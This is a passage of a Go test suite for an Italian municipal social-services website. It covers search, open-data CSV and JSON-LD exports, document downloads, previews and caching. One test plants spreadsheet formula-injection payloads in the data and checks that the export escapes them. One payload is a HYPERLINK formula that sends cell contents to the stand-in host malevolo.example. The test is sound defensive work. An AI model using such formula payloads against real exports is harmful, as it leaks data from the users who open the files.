		require.Equal(t, 200, res.StatusCode, q)
		require.Equal(t, want, value(body), q)
		require.Contains(t, texts(parse(t, body).all("service-link")), "Asilo nido comunale", q)
	}
	res, body := get(t, app, host(tn), "/cerca?q=%E2%80%8B%E2%80%8B")
	require.Equal(t, 200, res.StatusCode)
	require.Equal(t, "", value(body), "nothing visible: only the form")
	require.Contains(t, body, "Cerca un servizio")

	long := strings.Repeat("nido ", 700)
	res, body = get(t, app, host(tn), "/cerca?q="+url.QueryEscape(long))
	require.Equal(t, 200, res.StatusCode)
	require.Equal(t, strings.TrimSpace(long[:200]), value(body), "cut to 200 characters")
	res, body = get(t, app, host(tn), "/cerca?q="+url.QueryEscape(strings.Repeat("è", 300)))
	require.Equal(t, 200, res.StatusCode)
	require.Equal(t, strings.Repeat("è", 200), value(body), "cut on characters, not bytes")
}

func TestOpenData(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)

	res, body := get(t, app, host(tn), "/opendata/carta.jsonld")
	require.Equal(t, 200, res.StatusCode)
	require.Equal(t, "application/ld+json; charset=utf-8", res.Header.Get("Content-Type"))
	require.Equal(t, `<https://creativecommons.org/licenses/by/4.0/>; rel="license"`, res.Header.Get("Link"))
	var doc struct {
		Context map[string]any   `json:"@context"`
		Graph   []map[string]any `json:"@graph"`
	}
	require.NoError(t, json.Unmarshal([]byte(body), &doc))
	require.Equal(t, "http://purl.org/vocab/cpsv#", doc.Context["cpsv"])
	require.Len(t, doc.Graph, 5)
	ds := doc.Graph[0]
	require.Equal(t, site.LicenseURL, ds["license"])
	require.Equal(t, tn.Name, ds["author"].(map[string]any)["name"])
	require.EqualValues(t, 1, ds["version"])
	for _, n := range doc.Graph[1:] {
		requireServiceLD(t, n)
	}

	res, body = get(t, app, host(tn), "/opendata/servizi.csv")
	require.Equal(t, 200, res.StatusCode)
	require.Equal(t, "text/csv; charset=utf-8", res.Header.Get("Content-Type"))
	require.Equal(t, `<https://creativecommons.org/licenses/by/4.0/>; rel="license"`, res.Header.Get("Link"))
	require.Contains(t, body, "\r\n", "RFC 4180 line ends")
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, 5)
	require.Equal(t, "id", recs[0][0])
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	var sad []string
	for _, r := range recs[1:] {
		if r[col["slug"]] == "assistenza-domiciliare-anziani" {
			sad = r
		}
	}
	require.NotNil(t, sad)
	require.Equal(t, "Assistenza domiciliare per anziani", sad[col["titolo"]])
	require.Equal(t, "Persone con più di 65 anni, residenti, non del tutto autosufficienti.", sad[col["a_chi_e_rivolto"]])
	require.Equal(t, "Assistenza sociale; Assistenza agli invalidi", sad[col["argomenti"]])
	require.Equal(t, "Piazza Risorgimento 1", sad[col["indirizzo"]])
	require.Equal(t, "2", sad[col["livello_macro"]])
	require.Equal(t, env.Cfg.TenantURL(tn.Slug)+"/servizi/assistenza-domiciliare-anziani", sad[col["url"]])

	_, body = get(t, app, host(tn), "/opendata")
	require.Contains(t, body, `<a href="https://creativecommons.org/licenses/by/4.0/" rel="license">`)
	require.Contains(t, body, `href="/opendata/servizi.csv"`)
	require.Contains(t, body, `href="/opendata/carta.jsonld"`)
}

// Text written by staff reaches anyone who opens servizi.csv in a spreadsheet: cells that a
// spreadsheet would run as formulas are written behind an apostrophe, as in the staff exports.
func TestOpenDataCSVHasNoFormulas(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := env.NewTenant(t, tenant.KindComune)
	c := demoCarta()
	c.Services[0].Title = `=HYPERLINK("https://malevolo.example/?d="&A1;"Clicca")`
	c.Services[0].ShortDescription = "+39 06 1234567"
	c.Services[0].ResponsibleUnit = "-1+2"
	c.Services[1].Title = "@SUM(A1:A9)"
	c.Offices[0].Name = "\t=1+1"
	c.Services[2].ShortDescription = "\r=2"
	publish(t, env, tn, c, publishedAt, "Prima pubblicazione")

	res, body := get(t, app, host(tn), "/opendata/servizi.csv")
	require.Equal(t, 200, res.StatusCode)
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	require.NoError(t, err)
	cells := map[string]bool{}
	for _, r := range recs[1:] {
		for _, v := range r {
			cells[v] = true
			if v != "" {
				require.NotContains(t, "=+-@\t\r", v[:1], "cell %q starts a formula", v)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK("https://malevolo.example/?d="&A1;"Clicca")`, "'+39 06 1234567", "'-1+2",
		"'@SUM(A1:A9)", "'\t=1+1",
		"'=2", // encoding/csv drops a lone CR: without the apostrophe the cell would read "=2"
	} {
		require.True(t, cells[want], "missing escaped cell %q", want)
	}
	_, body = get(t, app, host(tn), "/opendata")
	require.Contains(t, body, "precedute da un apostrofo")
}

func TestDocuments(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)
	sad := demoCarta().Services[1].Documents[0]

	res, body := get(t, app, host(tn), "/documenti/"+sad.ID.String()+"/regolamento-sad.pdf")
	require.Equal(t, 200, res.StatusCode)
	require.Equal(t, "application/pdf", res.Header.Get("Content-Type"))
	require.Equal(t, docBytes("regolamento-sad.pdf"), []byte(body))
	require.Contains(t, res.Header.Get("Content-Disposition"), `filename="regolamento-sad.pdf"`)
	res, _ = get(t, app, host(tn), "/documenti/"+sad.ID.String()+"/regolamento-sad.pdf", "If-None-Match", res.Header.Get("ETag"))
	require.Equal(t, http.StatusNotModified, res.StatusCode)
	res, _ = get(t, app, host(tn), "/documenti/"+sad.ID.String()+"/altro-nome.pdf")
	require.Equal(t, http.StatusMovedPermanently, res.StatusCode)
	require.Equal(t, "/documenti/"+sad.ID.String()+"/regolamento-sad.pdf", res.Header.Get("Location"))
	res, _ = get(t, app, host(tn), "/documenti/"+idDocCarta.String()+"/carta-dei-servizi.pdf")
	require.Equal(t, 200, res.StatusCode, "the Carta's own documents too")

	// A draft's upload (in no version) is never served.
	draft := document(uuid.New(), "modulo", "Modulo in preparazione", "bozza.pdf")
	storeDocument(t, env, tn, draft, docBytes("bozza.pdf"))
	res, _ = get(t, app, host(tn), "/documenti/"+draft.ID.String()+"/bozza.pdf")
	require.Equal(t, 404, res.StatusCode)
	// Nor new bytes the draft put behind a published id.
	storeDocument(t, env, tn, sad, []byte("%PDF-1.4\n% nuova versione non pubblicata\n"))
	res, _ = get(t, app, host(tn), "/documenti/"+sad.ID.String()+"/regolamento-sad.pdf")
	require.Equal(t, 404, res.StatusCode)
	storeDocument(t, env, tn, sad, docBytes("regolamento-sad.pdf"))

	// A document withdrawn in v2 stays downloadable: v1 links to it.
	c := demoCarta()
	c.Services[1].Documents = nil
	publish(t, env, tn, c, time.Date(2026, 3, 10, 9, 0, 0, 0, site.Rome()), "")
	res, _ = get(t, app, host(tn), "/documenti/"+sad.ID.String()+"/regolamento-sad.pdf")
	require.Equal(t, 200, res.StatusCode)

	// Another tenant's host never serves it, and garbage ids are missing pages.
	other := demoTenant(t, env)
	res, _ = get(t, app, host(other), "/documenti/"+draft.ID.String()+"/bozza.pdf")
	require.Equal(t, 404, res.StatusCode)
	res, _ = get(t, app, host(tn), "/documenti/non-un-id/x.pdf")
	require.Equal(t, 404, res.StatusCode)
}

func TestMissingPagesAreItalian404s(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)
	for _, p := range []string{"/servizi/nessun-servizio", "/servizi/Maiuscolo", "/uffici/nessuno", "/servizi/a%2Fb"} {
		res, body := get(t, app, host(tn), p)
		require.Equal(t, 404, res.StatusCode, p)
		require.Contains(t, body, "Pagina non trovata", p)
		require.Contains(t, body, `<html lang="it">`)
	}
}

func TestBeforePublicationOnlyTheHomeShows(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := env.NewTenant(t, tenant.KindComune)
	res, body := get(t, app, host(tn), "/")
	require.Equal(t, 200, res.StatusCode)
	require.Contains(t, body, "La Carta dei Servizi è in preparazione")
	d := parse(t, body)
	require.Empty(t, d.all("all-services"), "no menu to pages that do not exist")
	require.Empty(t, d.all("management"))
	for _, p := range []string{"/servizi", "/carta", "/uffici", "/amministrazione", "/argomenti", "/opendata",
		"/opendata/carta.jsonld", "/opendata/servizi.csv", "/cerca?q=x", "/carta/versioni"} {
		res, _ := get(t, app, host(tn), p)
		require.Equal(t, 404, res.StatusCode, p)
	}
}

func TestHome(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)
	res, body := get(t, app, host(tn), "/")
	require.Equal(t, 200, res.StatusCode)
	require.Empty(t, res.Header.Values("Set-Cookie"))
	d := parse(t, body)
	require.Len(t, d.tag("h1"), 1)
	require.Equal(t, "get", attr(d.tag("form")[0], "method"))
	require.Equal(t, "/cerca", attr(d.tag("form")[0], "action"))
	require.Contains(t, body, `href="/servizi?categoria=FAM"`)
	require.Contains(t, text(d.root), "Famiglia e minori 2 servizi")
	// Offices open now (Tuesday 10:00: the main desk), the others with their next opening.
	open := findAll(d.root, func(n *html.Node) bool { return attr(n, "aria-labelledby") == "uffici-aperti" })[0]
	ot := text(open)
	require.Contains(t, ot, "Sportello polivalente dei servizi sociali Sportello principale")
	require.Contains(t, ot, "Aperto ora Oggi: 9:00–12:00, 15:30–17:30")
	require.Contains(t, ot, "Sportello di Cerenova")
	require.Contains(t, ot, "Chiuso Oggi: chiuso")
	require.Contains(t, body, `href="/carta#reclami"`)
	// The rating block rates the home.
	require.Contains(t, body, `<form method="post" action="/valutazione" class="rating-form" id="valutazione" novalidate>
            <input type="hidden" name="path" value="/">`)
	require.Len(t, d.all("feedback"), 1)
}

// requirePDFLinks checks that a page links the PDFs of the Carta in force, with their
// format, inside the section labelled by labelledBy ("" for anywhere in main).
func requirePDFLinks(t *testing.T, body, labelledBy string) {
	t.Helper()
	d := parse(t, body)
	scope := findAll(d.root, func(n *html.Node) bool { return n.Data == "main" })[0]
	if labelledBy != "" {
		sec := findAll(d.root, func(n *html.Node) bool { return attr(n, "aria-labelledby") == labelledBy })
		require.Len(t, sec, 1, labelledBy)
		scope = sec[0]
	}
	for path, label := range map[string]string{"/carta.pdf": "La Carta dei Servizi Sociali completa", "/guida-sintetica.pdf": "La guida sintetica ai servizi"} {
		links := findAll(scope, func(n *html.Node) bool { return n.Data == "a" && attr(n, "href") == path })
		require.Len(t, links, 1, path)
		require.Equal(t, label, text(links[0]), path)
		require.Contains(t, text(links[0].Parent), label+" (PDF)", path)
	}
}

func TestOtherPages(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	app := newApp(t, env, withClock)
	tn := demoTenant(t, env)

	_, body := get(t, app, host(tn), "/amministrazione")
	d := parse(t, body)
	allowed := []string{"Aree amministrative", "Documenti e dati", "Enti e fondazioni", "Organi di governo",
		"Personale amministrativo", "Politici", "Uffici"}
	links := texts(d.all("management-category-link"))
	require.Equal(t, []string{"Uffici", "Personale amministrativo", "Documenti e dati"}, links)
	for _, l := range links {
		require.Contains(t, allowed, l)
	}
	require.Contains(t, text(d.root), "Anna Bianchi Responsabile del Servizio Sociale")
	require.Contains(t, body, `href="/documenti/`+idDocCarta.String()+`/carta-dei-servizi.pdf"`)
	require.Contains(t, body, `href="/opendata"`)
	requirePDFLinks(t, body, "documenti-titolo")

	_, body = get(t, app, host(tn), "/argomenti")
	d = parse(t, body)
	topics := d.all("topic-element")
	require.Equal(t, []string{"Accesso all'informazione", "Assistenza agli invalidi", "Assistenza sociale", "Istruzione", "Nascita"},
		func() []string {
			var out []string
			for _, a := range topics {
				out = append(out, within(a, "span")[0].FirstChild.Data)
			}
			return out
		}())
	require.Equal(t, "/servizi?argomento=Assistenza+sociale", attr(topics[2], "href"))

	_, body = get(t, app, host(tn), "/uffici")
	require.Contains(t, body, `href="/uffici/sportello-polivalente"`)
	res, body := get(t, app, host(tn), "/uffici/sportello-polivalente")
	require.Equal(t, 200, res.StatusCode)
	d = parse(t, body)
	rows := texts(within(d.tag("tbody")[0], "tr"))
	require.Equal(t, []string{"Lunedì 9:00–12:00", "Martedì (oggi) 9:00–12:00, 15:30–17:30", "Mercoledì 9:00–12:00",
		"Giovedì 9:00–12:00, 15:30–17:30", "Venerdì 9:00–12:00", "Sabato chiuso", "Domenica chiuso"}, rows)
	require.Contains(t, body, "6 aprile 2026: chiuso (Lunedì dell&#39;Angelo)")
	require.Contains(t, text(d.root), "Assistenza domiciliare per anziani", "the services handled there")

	_, body = get(t, app, host(tn), "/carta")
	d = parse(t, body)
	require.Contains(t, body, `<section id="reclami" class="mb-5">`)
	require.Contains(t, body, "<strong>entro trenta giorni</strong>", "Markdown rendered")
	require.Contains(t, text(d.root), "Prima pubblicazione 2 marzo 2026 Versione 1 Ultimo aggiornamento 2 marzo 2026")
	requirePDFLinks(t, body, "")
	// The default general part promises nothing that does not exist yet (page ratings, an
	// online survey); the paper questionnaire of the guida does exist.
	require.NotContains(t, body, "valutare ogni pagina")
	require.NotContains(t, body, "pagina di questo sito")
	require.Contains(t, body, "questionario di gradimento che trovi in fondo alla guida sintetica")
}

func TestPreview(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	r, err := web.NewRenderer(web.RendererOptions{Pages: []fs.FS{site.Templates}, Dev: true, TenantURL: env.Cfg.TenantURL, Log: quiet})
	require.NoError(t, err)
	tn := env.NewTenant(t, tenant.KindComune)
	preview := site.Preview(site.Deps{Render: r, Tenants: env.Tenants, DB: env.DB, Log: quiet, Cfg: env.Cfg, Clock: fixedClock})
	draft := demoCarta()
	draft.Tenant = catalog.TenantRef{ID: tn.ID, Slug: tn.Slug, Name: tn.Name, Kind: "comune"}
	svc := draft.Services[1]
	svc.Title = "Titolo non ancora salvato"

	app := fiber.New(fiber.Config{ErrorHandler: web.ErrorHandler(r, quiet)})
	app.Post("/admin/anteprima", func(c *fiber.Ctx) error {
		c.SetUserContext(tenant.WithTenant(c.UserContext(), tn))
		return preview(c, svc, draft)
	})
	req, _ := http.NewRequest(http.MethodPost, "/admin/anteprima", bytes.NewReader(nil))
	req.Host = host(tn)
	res, err := app.Test(req, -1)
	require.NoError(t, err)
	require.Equal(t, 200, res.StatusCode)
	require.Equal(t, "no-store", res.Header.Get("Cache-Control"))
	var buf bytes.Buffer
	_, _ = buf.ReadFrom(res.Body)
	body := buf.String()
	require.Contains(t, body, "Anteprima — non pubblicata")
	d := parse(t, body)
	require.Equal(t, "Titolo non ancora salvato", text(d.one(t, "service-title")))
	require.Contains(t, body, `<meta name="robots" content="noindex">`)
	require.Contains(t, body, "Regolamento del servizio", "the draft's documents are listed")
	require.Empty(t, d.all("service-file"), "but not linked: they are not published")
	// The draft given by the caller is not changed.
	require.Equal(t, "Assistenza domiciliare per anziani", draft.Services[1].Title)
}

func TestPagesGoThroughTheCache(t *testing.T) {
	t.Parallel()
	env := testenv.Get(t)
	cache := pagecache.New(nil, pagecache.Options{Log: quiet})
	now := fixedNow
	var mu sync.Mutex
	app := newApp(t, env, func(d *site.Deps) {
		d.Cache = cache
		d.Clock = func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	})
	tn := demoTenant(t, env)

	res, body := get(t, app, host(tn), "/servizi/asilo-nido")
	require.Equal(t, 200, res.StatusCode)
	etag := res.Header.Get("ETag")
	require.NotEmpty(t, etag)
	res, _ = get(t, app, host(tn), "/servizi/asilo-nido", "If-None-Match", etag)
	require.Equal(t, http.StatusNotModified, res.StatusCode)
	require.Contains(t, body, "Asilo nido comunale")

	c := demoCarta()
	c.Services[3].Title = "Asilo nido «Il Girasole»"
	publish(t, env, tn, c, time.Date(2026, 3, 10, 9, 0, 0, 0, site.Rome()), "")
	cache.Published(context.Background(), tn.ID)
	res, body = get(t, app, host(tn), "/servizi/asilo-nido")
	require.Equal(t, 200, res.StatusCode)
	require.Contains(t, body, "Asilo nido «Il Girasole»")
	require.NotEqual(t, etag, res.Header.Get("ETag"))

	// An edit of the profile (header and footer of every page) shows as soon as the editor
	// announces it, as the staff area does after saving; the page read before the
	// announcement still comes from the cache without touching the database.
	setProfile(t, env, tn, db.TenantProfileUpsertParams{Phone: "06 1234 5678"})
	_, body = get(t, app, host(tn), "/servizi/asilo-nido")
	require.NotContains(t, body, "06 1234 5678", "a cache hit must not read the profile")
	cache.Published(context.Background(), tn.ID)
	_, body = get(t, app, host(tn), "/servizi/asilo-nido")
	require.Contains(t, body, "06 1234 5678")

	// Unknown pages are not stored, and answer 404 every time.
	for range 2 {
		res, _ = get(t, app, host(tn), "/servizi/nessuno")
		require.Equal(t, 404, res.StatusCode)
	}
	require.Empty(t, res.Header.Values("Set-Cookie"))
}
